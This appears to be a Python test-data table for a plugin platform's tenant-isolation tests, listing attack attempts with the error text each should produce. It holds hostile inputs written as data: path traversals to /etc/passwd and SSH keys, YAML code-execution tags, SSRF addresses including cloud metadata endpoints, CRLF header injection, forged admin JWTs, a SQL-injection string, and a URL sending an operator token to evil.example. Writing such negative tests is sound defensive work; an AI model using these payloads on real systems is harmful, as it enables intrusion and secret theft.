"""What a workspace tries in order to reach what is another's, or the operator's: one table, by what it tries with."""

import base64
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import jwt

from faas_toolkit.core.clock import SystemClock
from workbench.host import PluginHost
from workbench.surfaces import sender_for

OPERATORS = "operator-token-4f1c09"
OUTSIDE = "outside-the-directory-77aa"
SECRET = "victims-secret-8810bd"
RECORD = "Zephyrine Okonkwo"
DOCUMENT = "The vault of the victim opens at seven."
ARGUMENT = "victims-argument-51e2"
OFFERED = "offered-to-everyone-3d"
SHARED_KEY = "the-same-shared-secret-of-both-workspaces"
ENCRYPTION_KEY = base64.b64encode(b"e" * 32).decode()
IDEMPOTENCY_KEY = "order-4711"
ALLOW = ["crm.read", "knowledge.read", "knowledge.write", "function.call", "model.use"]
ROLES = {
    "member": {"allow": ALLOW, "functions": ["*", "count"], "knowledge": ["*"], "crm": {"sources": ["*"]}},
    "admin": {"allow": ["*"]},
}


@dataclass
class World:
    """What is there to be reached."""

    plugin: PluginHost
    data: Path
    catalogs: Path
    function: str
    """The address of a function that the operator opened."""
    redirecting: str
    """One that leads to the closed server."""
    closed: int
    """The port of a server on loopback that nobody opened."""
    victim: Mapping[str, str] = field(default_factory=dict)
    """The victim's workspace: its id and key."""
    cursor: str = ""
    run: int = 0
    """What the victim's function answered, kept in its cache."""
    outcome: int = 0
    """Same, under its idempotency key."""

    def ask(self, workspace, tool, arguments, settings, app="app"):
        """The reply as one text, and its variables."""
        reply = self.plugin.invoke_tool(
            tool,
            {**arguments, "on_error": "return"},
            workspace=workspace,
            sender=sender_for("workflow", app=f"{workspace}-{app}"),
            credentials=settings,
            timeout=60,
        )
        assert reply.error is None
        return reply.text + json.dumps(reply.variables, ensure_ascii=False), reply.variables

    def catalog(self, **sections):
        """A catalog as an attacker writes it, with what the tests need around the attempt."""
        count = {"platform": "http", "target": {"url": self.function}, "cache": "5m"}
        written = {"version": 1, "roles": ROLES, "functions": {"count": count}, "knowledge": {"notes": {"kind": "embedded"}}}
        return json.dumps({**written, **sections})


@dataclass(frozen=True)
class Attempt:
    """One way to try it."""

    name: str
    taught: str
    """What the answer says; empty where it is an ordinary answer without anything of the other's."""
    tool: str = "list_capabilities"
    arguments: Mapping[str, object] | Callable[[World], Mapping[str, object]] = field(default_factory=dict)
    settings: Callable[[World], Mapping[str, str]] = lambda world: {}

    def given(self, world):
        return self.arguments(world) if callable(self.arguments) else self.arguments


def catalog(text):
    """The setting `catalog` alone, as it is typed."""
    return lambda world: {"catalog": text(world) if callable(text) else text}


def sections(make, **settings):
    """A catalog with these sections."""
    return lambda world: {"catalog": world.catalog(**(make(world) if callable(make) else make)), **settings}


def referring(reference):
    """A catalog in which a secret of that name would be used and could be seen."""
    written = {"review": {"refuse": [{"words": f"${{{reference}}}"}]}}
    return sections(written)


def pointing(url, **section):
    """A catalog with a function at an address; what is called is not the opened one."""

    def made(world):
        address = url.format(port=world.closed, redirecting=world.redirecting, function=world.function)
        return {"functions": {"count": {"platform": "http", "target": {"url": address}}}, **section}

    return sections(made)


def opening(*entries, url="https://127.0.0.1:{port}/"):
    """The same, after opening it oneself."""
    return lambda world: pointing(url, network={"allow": [entry.format(port=world.closed) for entry in entries]})(world)


CALL = {"tool": "function_call", "arguments": {"function": "count"}}
SEARCH = {"tool": "knowledge_search", "arguments": {"query": "When does the vault of the victim open?", "bases": "notes"}}


def lookup(**arguments):
    return {"tool": "crm_lookup", "arguments": arguments}


def signed(**claims):
    return jwt.encode({"sub": "mallory", "exp": int(SystemClock().epoch()) + 600, **claims}, SHARED_KEY, algorithm="HS256")


ENVIRONMENT = [
    Attempt("a variable that is not offered", "OPERATOR_TOKEN", settings=referring("secret:OPERATOR_TOKEN")),
    Attempt(
        "the list of what is offered", "FAAS_TOOLKIT_SHARED_SECRETS", settings=referring("secret:FAAS_TOOLKIT_SHARED_SECRETS")
    ),
    Attempt("another variable of the operator", "FAAS_TOOLKIT_DATA_DIR", settings=referring("secret:FAAS_TOOLKIT_DATA_DIR")),
    Attempt("a variable of the process", "HOME", settings=referring("secret:HOME")),
    Attempt("another word for it", "secret:name", settings=referring("env:OPERATOR_TOKEN")),
    Attempt("a shell's way to write it", "", settings=sections({"review": {"refuse": [{"words": "$OPERATOR_TOKEN"}]}})),
    Attempt("a shell's other way", "", settings=referring("OPERATOR_TOKEN")),
    Attempt(
        "a template's way",
        "",
        settings=sections({"review": {"refuse": [{"words": "{{ env.OPERATOR_TOKEN }} %OPERATOR_TOKEN%"}]}}),
    ),
    Attempt(
        "in an address",
        "OPERATOR_TOKEN",
        settings=pointing("https://evil.example/${{secret:OPERATOR_TOKEN}}"),
    ),
    Attempt("a reference within a reference", "secret", settings=referring("secret:${secret:OPERATOR_TOKEN}")),
    Attempt(
        "a secret whose value is a reference",
        "",
        settings=sections(
            {"review": {"refuse": [{"words": "${secret:mine}"}]}}, secrets=json.dumps({"mine": "${secret:OPERATOR_TOKEN}"})
        ),
    ),
    Attempt("a name with a line break", "secret", settings=referring("secret:x\nOPERATOR_TOKEN")),
    Attempt(
        "a name with a null character", "catalog", settings=catalog('{"version": 1, "review": "${secret:OPERATOR_TOKEN\0}"}')
    ),
    Attempt("a pattern for names", "secret", settings=referring("secret:*")),
    Attempt(
        "as a role", "has no role", **lookup(query=RECORD), settings=lambda world: {"default_role": "${secret:OPERATOR_TOKEN}"}
    ),
    Attempt("as an identity key", "identity_keys", settings=lambda world: {"identity_keys": "${secret:OPERATOR_TOKEN}"[:30]}),
]

ANOTHERS_SECRETS = [
    Attempt("by its name", "victim_key", settings=referring("secret:victim_key")),
    Attempt("by a path", "secret", settings=referring("secret:../victim/victim_key")),
    Attempt("by its workspace", "secret", settings=lambda world: referring(f"secret:{world.victim['id']}:victim_key")(world)),
    Attempt("a tag of YAML in secrets", "'secrets'", settings=lambda world: {"secrets": "!!python/object/apply:os.getcwd []"}),
    Attempt("a file in secrets", "'secrets'", settings=lambda world: {"secrets": f"file:{world.data}/toolkit.sqlite"}),
    Attempt("an alias in secrets", "'secrets'", settings=lambda world: {"secrets": "{a: *victim_key}"}),
    Attempt("the same encryption key", "", tool="diagnose", settings=lambda world: {"encryption_key": ENCRYPTION_KEY}),
    Attempt(
        "a masked role that shows one's own",
        "",
        settings=lambda world: {
            "catalog": world.catalog(
                functions={"count": {"platform": "http", "target": {"url": world.function}, "describe": "victim_key"}}
            )
        },
    ),
]

FILES = [
    Attempt("a traversal", "not the name of a file", settings=catalog("file:../outside.yaml")),
    Attempt("a traversal inside", "not the name of a file", settings=catalog("file:sub/../../outside.yaml")),
    Attempt("an encoded traversal", "not the name of a file", settings=catalog("file:%2e%2e%2foutside.yaml")),
    Attempt("backslashes", "not the name of a file", settings=catalog("file:..\\outside.yaml")),
    Attempt("an absolute path", "not the name of a file", settings=catalog(lambda world: f"file:{world.data}/toolkit.sqlite")),
    Attempt("a URL of a file", "not the name of a file", settings=catalog("file:///etc/passwd")),
    Attempt("a link out of the directory", "leads out of", settings=catalog("file:link.yaml")),
    Attempt("a loop of links", "no readable file", settings=catalog("file:loop.yaml")),
    Attempt("the directory itself", "not the name of a file", settings=catalog("file:.")),
    Attempt("a directory in it", "no readable file", settings=catalog("file:sub")),
    Attempt("a hidden file", "not the name of a file", settings=catalog("file:.hidden")),
    Attempt("a home directory", "not the name of a file", settings=catalog("file:~/.ssh/id_rsa")),
    Attempt("a reference in it", "not the name of a file", settings=catalog("file:${secret:OPERATOR_TOKEN}")),
    Attempt("another case", "catalog", settings=catalog("FILE:../outside.yaml")),
    Attempt("hidden in base64", "catalog", settings=catalog("base64:" + base64.b64encode(b"file:../outside.yaml").decode())),
    Attempt("a tag of YAML", "tag", settings=catalog("{version: 1, roles: !!python/object/apply:os.getcwd []}")),
    Attempt("an include", "tag", settings=catalog("{version: 1, roles: !include /etc/passwd}")),
    Attempt("a merge key", "<<", settings=catalog("{version: 1, roles: {<<: {member: {}}}}")),
    Attempt("an alias of nothing", "alias", settings=catalog("{version: 1, roles: *victim}")),
    Attempt(
        "aliases that multiply",
        "catalog",
        settings=catalog(
            "{version: 1, a: &a [x,x,x,x,x,x,x,x], b: &b [*a,*a,*a,*a,*a,*a,*a,*a], c: &c [*b,*b,*b,*b,*b,*b,*b,*b],"
            " d: &d [*c,*c,*c,*c,*c,*c,*c,*c], e: &e [*d,*d,*d,*d,*d,*d,*d,*d], f: [*e,*e,*e,*e,*e,*e,*e,*e]}"
        ),
    ),
    Attempt(
        "a file as a certificate",
        "PEM text",
        settings=sections(
            {
                "functions": {
                    "f": {"platform": "http", "target": {"url": "https://a.example/"}, "tls": {"ca": "/etc/ssl/private/key.pem"}}
                }
            }
        ),
    ),
]

ADDRESSES_OF_CATALOGS = [
    Attempt(f"a catalog at {host}", taught, settings=catalog(lambda world, host=host: host.format(port=world.closed)))
    for host, taught in {
        "https://127.0.0.1:{port}/catalog.yaml": "loopback",
        "https://localhost:{port}/catalog.yaml": "loopback",
        "https://[::1]:{port}/catalog.yaml": "loopback",
        "https://[::ffff:127.0.0.1]:{port}/": "loopback",
        "https://[::ffff:7f00:1]:{port}/": "loopback",
        "https://[::]:{port}/": "loopback",
        "https://0.0.0.0:{port}/": "loopback",
        "https://2130706433:{port}/": "loopback",
        "https://0x7f000001:{port}/": "loopback",
        "https://0177.0.0.1:{port}/": "whole address",
        "https://127.1:{port}/": "loopback",
        "https://127.255.255.254:{port}/": "loopback",
        "https://[64:ff9b::7f00:1]/": "reserved",
        "https://[2002:7f00:1::]/": "reserved",
        "https://169.254.169.254/latest/meta-data/": "metadata",
        "https://[fe80::1]/": "metadata",
        "https://[fd00:ec2::254]/latest/": "metadata",
        "https://100.100.100.200/latest/": "metadata",
        "https://168.63.129.16/": "metadata",
        "https://10.0.0.1/": "private",
        "https://user:word@127.0.0.1:{port}/": "user name",
        "https://good.example@127.0.0.1:{port}/": "user name",
        "https://127.0.0.1:{port}\\@good.example/": "catalog",
        "http://127.0.0.1:{port}/": "https://",
        "https://127.0.0.1:{port}#.good.example": "loopback",
    }.items()
]

NETWORK = [
    Attempt("a function on loopback", "loopback", settings=pointing("https://127.0.0.1:{port}/"), **CALL),
    Attempt("one whose name leads there", "loopback", settings=pointing("https://localhost:{port}/"), **CALL),
    Attempt("over plain HTTP", "Plain HTTP", settings=pointing("http://127.0.0.1:{port}/"), **CALL),
    Attempt("loopback opened in the catalog", "loopback", settings=opening("127.0.0.0/8"), **CALL),
    Attempt("everything opened", "loopback", settings=opening("0.0.0.0/0", "::/0"), **CALL),
    Attempt("the port opened", "loopback", settings=opening("127.0.0.1:{port}", "localhost:{port}"), **CALL),
    Attempt("plain HTTP opened", "loopback", settings=opening("http://127.0.0.1:{port}", url="http://127.0.0.1:{port}/"), **CALL),
    Attempt("its IPv6 form opened", "loopback", settings=opening("::1/128", url="https://[::1]:{port}/"), **CALL),
    Attempt(
        "IPv4 in IPv6 opened", "loopback", settings=opening("::ffff:0:0/96", url="https://[::ffff:127.0.0.1]:{port}/"), **CALL
    ),
    Attempt("link-local opened", "metadata", settings=opening("169.254.0.0/16", url="https://169.254.169.254/"), **CALL),
    Attempt("metadata in a private range", "metadata", settings=opening("fd00::/8", url="https://[fd00:ec2::254]/"), **CALL),
    Attempt(
        "metadata in shared addresses", "metadata", settings=opening("100.64.0.0/10", url="https://100.100.100.200/"), **CALL
    ),
    Attempt("an opened server that leads there", "302", settings=pointing("{redirecting}"), **CALL),
    Attempt("a file as a function", "https://", settings=pointing("file:///etc/passwd")),
    Attempt("another protocol", "https://", settings=pointing("gopher://127.0.0.1:{port}/_GET")),
    Attempt("a socket", "https://", settings=pointing("unix:///var/run/docker.sock")),
    Attempt("a user name in the address", "functions.count.target.url", settings=pointing("https://a:b@127.0.0.1:{port}/")),
    Attempt(
        "a header that splits",
        "header",
        settings=sections(
            lambda world: {
                "functions": {
                    "count": {
                        "platform": "http",
                        "target": {"url": world.function},
                        "auth": {"header": {"name": "X-A\r\nHost", "value": "${secret:mine}"}},
                    }
                }
            },
            secrets='{"mine": "value-of-mine"}',
        ),
    ),
    Attempt(
        "a secret that splits a header",
        "mine",
        settings=sections(
            lambda world: {
                "functions": {
                    "count": {"platform": "http", "target": {"url": world.function}, "auth": {"bearer": "${secret:mine}"}}
                }
            },
            secrets=json.dumps({"mine": "a\r\nHost: evil.example"}),
        ),
    ),
    Attempt("a proxy of one's own", "proxy", settings=sections({"network": {"proxy": "http://127.0.0.1:1"}})),
    Attempt(
        "an endpoint of a cloud",
        "loopback",
        settings=sections(
            lambda world: {
                "functions": {
                    "count": {
                        "platform": "aws_lambda",
                        "target": {"region": "eu-west-1", "name": "f", "endpoint": f"https://127.0.0.1:{world.closed}"},
                        "auth": {"access_key_id": "${secret:a}", "secret_access_key": "${secret:a}"},
                    }
                }
            },
            secrets='{"a": "a-made-up-key"}',
        ),
        **CALL,
    ),
    Attempt(
        "a knowledge server on loopback",
        "loopback",
        settings=sections(
            lambda world: {
                "knowledge": {"notes": {"kind": "external_knowledge", "url": f"https://127.0.0.1:{world.closed}/r", "id": "a"}}
            }
        ),
        **SEARCH,
    ),
    Attempt(
        "a model on loopback",
        "loopback",
        tool="model_generate",
        arguments={"prompt": "Hi"},
        settings=sections(
            lambda world: {
                "models": {
                    "pools": {
                        "p": {
                            "deployments": [
                                {"name": "m", "kind": "openai", "url": f"https://127.0.0.1:{world.closed}/v1", "model": "m"}
                            ]
                        }
                    }
                }
            }
        ),
    ),
    Attempt(
        "a document on loopback",
        "loopback",
        tool="knowledge_add",
        arguments=lambda world: {"base": "notes", "url": f"https://127.0.0.1:{world.closed}/"},
        settings=sections({}),
    ),
    Attempt(
        "a key set on loopback",
        "loopback",
        tool="list_capabilities",
        arguments=lambda world: {"identity_token": jwt_of_nobody()},
        settings=lambda world: {"identity_keys": f"https://127.0.0.1:{world.closed}/jwks"},
    ),
    Attempt(
        "a key set that is opened in the catalog",
        "loopback",
        arguments=lambda world: {"identity_token": jwt_of_nobody()},
        settings=lambda world: {
            "catalog": world.catalog(network={"allow": ["127.0.0.0/8"]}),
            "identity_keys": f"https://127.0.0.1:{world.closed}/jwks",
        },
    ),
]


def jwt_of_nobody():
    """Named and signed as by an issuer whose keys are at an address."""
    parts = [json.dumps(part).encode() for part in ({"alg": "RS256", "kid": "a"}, {"sub": "mallory"})]
    return ".".join(base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in (*parts, b"signature"))


IDENTITY = [
    Attempt(
        "a role of another's",
        "no role victims_role",
        **lookup(query=RECORD),
        settings=lambda world: {"default_role": "victims_role"},
    ),
    Attempt("every role", "has no role", **lookup(query=RECORD), settings=lambda world: {"default_role": "*"}),
    Attempt(
        "a role with a line break",
        "has no role",
        **lookup(query=RECORD),
        settings=lambda world: {"default_role": "member\nadmin"},
    ),
    Attempt("another's key where one has none", "identity_keys", arguments=lambda world: {"identity_token": signed()}),
    Attempt(
        "the same key, as an administrator",
        "",
        **lookup(query=RECORD) | {"arguments": lambda world: {"query": RECORD, "identity_token": signed(roles=["admin"])}},
        settings=sections({}, identity_keys=SHARED_KEY),
    ),
    Attempt(
        "the same key, as another's tenant",
        "",
        tool="crm_lookup",
        arguments=lambda world: {
            "query": "person:1",
            "identity_token": signed(roles=["admin"], tenant=world.victim["id"], groups=[world.victim["id"]]),
        },
        settings=sections({}, identity_keys=SHARED_KEY),
    ),
    Attempt(
        "a subject like another's caller",
        "reserved",
        arguments=lambda world: {"identity_token": signed(sub="dify:u")},
        settings=sections({}, identity_keys=SHARED_KEY),
    ),
    Attempt(
        "a subject that is a key",
        "",
        arguments=lambda world: {"identity_token": signed(sub=f"{world.victim['id']}:gate:user", roles=["admin"])},
        settings=sections({}, identity_keys=SHARED_KEY),
    ),
    Attempt(
        "rows of every owner",
        "$workspace",
        settings=sections({"roles": {"member": {"crm": {"rows": {"deal": {"owner": "$workspace"}}}}}}),
    ),
]

DATA = [
    Attempt("a record by its name", "", settings=sections({}), **lookup(query=RECORD)),
    Attempt("a record by its address", "", settings=sections({}), **lookup(query="zephyrine@victim.example")),
    Attempt("a record by its number", "", settings=sections({}), **lookup(query="person:1")),
    Attempt("every record", "", settings=sections({}), **lookup(filters='{"name": {"contains": "Zephyrine"}}')),
    Attempt("the sample's own name as a source", ":sample", settings=sections({}), **lookup(query=RECORD, sources=":sample")),
    Attempt(
        "a workspace as a source",
        "source",
        tool="crm_lookup",
        settings=sections({}),
        arguments=lambda world: {"query": RECORD, "sources": world.victim["id"]},
    ),
    Attempt(
        "a source named like a workspace",
        "",
        tool="crm_lookup",
        arguments=lambda world: {"query": RECORD, "sources": world.victim["id"]},
        settings=sections(lambda world: {"crm": {world.victim["id"]: {"kind": "embedded"}}}),
    ),
    Attempt(
        "another's cursor",
        "cursor",
        tool="crm_lookup",
        settings=sections({}),
        arguments=lambda world: {"filters": '{"owner": "victim.owner"}', "limit": 1, "cursor": world.cursor},
    ),
    Attempt(
        "another's cursor under its encryption key",
        "cursor",
        tool="crm_lookup",
        settings=sections({}, encryption_key=ENCRYPTION_KEY),
        arguments=lambda world: {"filters": '{"owner": "victim.owner"}', "limit": 1, "cursor": world.cursor},
    ),
    Attempt(
        "a workspace's id as a cursor",
        "cursor",
        tool="crm_lookup",
        settings=sections({}),
        arguments=lambda world: {"filters": '{"owner": "victim.owner"}', "cursor": world.victim["id"]},
    ),
    Attempt("a base of the same name", "", settings=sections({}), **SEARCH),
    Attempt("a document by its id", "notes:1", tool="knowledge_remove", arguments={"document": "notes:1"}, settings=sections({})),
    Attempt(
        "every document removed",
        "",
        tool="knowledge_remove",
        arguments={"base": "notes", "filters": '{"title": {"empty": false}}'},
        settings=sections({}),
    ),
    Attempt(
        "a document put in another's place",
        "notes:1",
        tool="knowledge_add",
        arguments={"base": "notes", "text": "Mine now.", "document": "notes:1"},
        settings=sections({}),
    ),
    Attempt("a base named with a colon", "name", settings=sections({"knowledge": {"x:notes": {"kind": "embedded"}}})),
    Attempt("a base named with braces", "name", settings=sections({"knowledge": {"{x}": {"kind": "embedded"}}})),
    Attempt("a source named with a line break", "name", settings=sections({"crm": {"a\nb": {"kind": "embedded"}}})),
    Attempt(
        "a function named like a key",
        "name",
        settings=sections(
            lambda world: {"functions": {f"{world.victim['id']}:count": {"platform": "http", "target": {"url": world.function}}}}
        ),
    ),
    Attempt(
        "a function named like a pattern",
        "name",
        settings=sections(lambda world: {"functions": {"*": {"platform": "http", "target": {"url": world.function}}}}),
    ),
    Attempt(
        "a pool named like a path",
        "name",
        settings=sections(
            {"models": {"pools": {"../p": {"deployments": [{"name": "m", "kind": "dify", "provider": "a/b/c", "model": "m"}]}}}}
        ),
    ),
    Attempt(
        "a name for another's function",
        "no function",
        tool="function_call",
        arguments={"function": "victims_own"},
        settings=sections({}),
    ),
    Attempt("diagnose of everything", "", tool="diagnose", arguments={"check": "all"}, settings=sections({})),
    Attempt("a list of everything", "", arguments={}, settings=sections({})),
]

ANSWERS_AND_COUNTERS = [
    Attempt("a kept answer of the same call", "", settings=sections({}), **CALL),
    Attempt("a kept answer under the same encryption key", "", settings=sections({}, encryption_key=ENCRYPTION_KEY), **CALL),
    *(
        Attempt(
            f"an outcome under {what}",
            taught,
            tool="function_call",
            arguments=lambda world, key=key: {"function": "count", "idempotency_key": key.format(id=world.victim["id"])},
            settings=sections(
                lambda world: {"functions": {"count": {"platform": "http", "target": {"url": world.function}, "effects": "once"}}}
            ),
        )
        for what, key, taught in [
            ("the same key", IDEMPOTENCY_KEY, ""),
            ("a key with the workspace before it", "{id}:" + IDEMPOTENCY_KEY, ""),
            ("a key with braces", "{{{id}}}:" + IDEMPOTENCY_KEY, ""),
            ("a key with a line break", "x\n{id}:" + IDEMPOTENCY_KEY, ""),
            ("a key that is a pattern", "*", ""),
            ("a key with SQL in it", "' OR '1'='1", ""),
        ]
    ),
]

LOOPBACK_IS_CLOSED, NO_SOCKETS, NO_OPTION = "which no catalog opens", "Sockets of this machine", "option that is not"


def on_server(setting, url):
    """The setting with that address, and a catalog that opens this machine as far as a catalog may."""

    def made(world):
        opened = {"network": {"allow": ["127.0.0.1/32", "169.254.0.0/16", f"127.0.0.1:{world.closed}"]}}
        limits = [{"of": "requests", "limit": 100, "per": "60s", "by": ["workspace"]}]
        return {"catalog": world.catalog(**opened, limits=limits), setting: url.replace("PORT", str(world.closed))}

    return made


STORES = [
    Attempt(f"{setting}: {what}", taught, **lookup(query="Zephyrine"), settings=on_server(setting, url))
    for setting, what, url, taught in [
        ("database_url", "loopback", "postgresql://u:p@127.0.0.1:PORT/x", LOOPBACK_IS_CLOSED),
        ("database_url", "loopback inside IPv6", "postgresql://u:p@[::ffff:127.0.0.1]:PORT/x", LOOPBACK_IS_CLOSED),
        ("database_url", "loopback as one number", "postgresql://u:p@2130706433:PORT/x", LOOPBACK_IS_CLOSED),
        ("database_url", "loopback by name", "mysql://u:p@localhost:PORT/x", LOOPBACK_IS_CLOSED),
        ("database_url", "the cloud's metadata", "postgresql://u:p@169.254.169.254/x", LOOPBACK_IS_CLOSED),
        ("database_url", "a socket as an option", "postgresql:///x?host=/var/run/postgresql", NO_SOCKETS),
        ("database_url", "a socket as the host", "postgresql://u:p@%2Fvar%2Frun/x", NO_SOCKETS),
        ("database_url", "a second host", "postgresql://u:p@db.example,127.0.0.1:PORT/x", NO_SOCKETS),
        ("database_url", "the file of the plugin", "sqlite:///../toolkit.sqlite", "postgresql://"),
        ("database_url", "any file", "sqlite+pysqlite:////etc/passwd", "postgresql://"),
        ("database_url", "a file as the authority", "postgresql://u:p@db.example/x?sslrootcert=/etc/passwd", NO_OPTION),
        ("database_url", "the operator's service", "postgresql://u:p@db.example/x?service=operator", NO_OPTION),
        ("database_url", "the operator's passwords", "postgresql://u:p@db.example/x?passfile=/root/.pgpass", NO_OPTION),
        ("database_url", "another's schema", "postgresql://u:p@db.example/x?options=-csearch_path%3Dvictim", NO_OPTION),
        ("database_url", "files for the server", "mysql://u:p@db.example/x?local_infile=1", NO_OPTION),
        ("database_url", "the operator's settings", "mysql://u:p@db.example/x?read_default_file=/etc/mysql/my.cnf", NO_OPTION),
        ("database_url", "a socket of MySQL", "mysql://u:p@db.example/x?unix_socket=/run/mysqld/mysqld.sock", NO_OPTION),
        ("database_url", "the operator's login", "postgresql://db.example/x", "nothing else is used to log in"),
        ("redis_url", "loopback", "redis://127.0.0.1:PORT/0", LOOPBACK_IS_CLOSED),
        ("redis_url", "loopback inside IPv6", "redis://[::ffff:127.0.0.1]:PORT/0", LOOPBACK_IS_CLOSED),
        ("redis_url", "loopback as one number", "redis://2130706433:PORT/0", LOOPBACK_IS_CLOSED),
        ("redis_url", "loopback by name", "redis://localhost:PORT/0", LOOPBACK_IS_CLOSED),
        ("redis_url", "the cloud's metadata", "rediss://169.254.169.254:6379/0", LOOPBACK_IS_CLOSED),
        ("redis_url", "loopback as a Sentinel", "redis+sentinel://127.0.0.1:PORT/main/0", LOOPBACK_IS_CLOSED),
        ("redis_url", "loopback as a Cluster", "redis+cluster://127.0.0.1:PORT", LOOPBACK_IS_CLOSED),
        ("redis_url", "a socket", "unix:///run/redis/redis.sock", "begins with none of"),
        ("redis_url", "a socket as an option", "redis://u:p@h/0?unix_socket_path=/run/redis.sock", NO_OPTION),
        ("redis_url", "a file as the authority", "rediss://h:1/0?ca=/etc/passwd", "ca"),
        ("redis_url", "any file", "file:///etc/passwd", "begins with none of"),
    ]
]
"""Another's rows and counters on servers that both name are in `tests/contract/test_isolation_on_servers.py`."""

TABLE = {
    "environment": ENVIRONMENT,
    "another's secrets": ANOTHERS_SECRETS,
    "files": FILES,
    "addresses of catalogs": ADDRESSES_OF_CATALOGS,
    "network": NETWORK,
    "identity": IDENTITY,
    "data": DATA,
    "answers and counters": ANSWERS_AND_COUNTERS,
    "stores": STORES,
}
